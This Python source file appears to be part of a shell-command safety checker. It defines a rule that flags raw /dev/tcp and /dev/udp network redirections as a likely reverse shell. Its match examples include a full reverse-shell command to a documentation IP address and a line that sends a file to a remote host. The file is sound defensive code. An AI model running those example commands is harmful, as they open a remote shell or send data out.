"""Network connections of the shell itself."""

from __future__ import annotations

from sandguard.commands.effects import Fetches, Listens, Sends
from sandguard.rules.addresses import is_near, shell_socket
from sandguard.rules.rule import Match, rule
from sandguard.rules.wording import named

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandguard.flow.program import Program

PROBES = frozenset(("", ":", "echo", "printf", "true", "exec", "cat", "read"))
"""What stands before a redirection that only tries whether somebody answers."""

KINDS: tuple[type[Sends | Fetches], ...] = (Sends, Fetches)


@rule(
    technique="T1095",
    severity="high",
    effects=(Fetches, Listens, Sends),
    is_reversible=False,
    instead="use `curl` or `nc -z` for a probe",
    review="whether anybody expects this connection: it is how reverse shells are opened",
    match=(
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "cat notes.txt > /dev/tcp/example.com/80",
        "exec 3<>/dev/udp/192.0.2.1/53",
    ),
    no_match=(
        "(echo > /dev/tcp/localhost/5432)",
        "until </dev/tcp/db/5432; do sleep 1; done",
        "echo /dev/tcp/192.0.2.1/80",
        "echo 'x > /dev/tcp/192.0.2.1/80'",
    ),
)
def raw_socket(program: Program) -> Iterator[Match]:
    """A redirection opens a network connection (``/dev/tcp``, ``/dev/udp``), the usual way of a reverse shell.

    An agent does this to see whether a port is open. Probing this machine, a private address or a host of the local
    network passes.

    Connections that programs open are judged by what flows through them.
    """
    for kind in KINDS:
        for invocation, effect in program.effects(kind):
            address = effect.url if isinstance(effect, Fetches) else effect.destination
            socket = shell_socket(address)
            if socket and not (is_near(socket) and invocation.name.text in PROBES):
                message = f"the shell opens a network connection: {named(address)}"
                yield Match(invocation.source, effect.span, message, "use curl or nc -z for a probe")
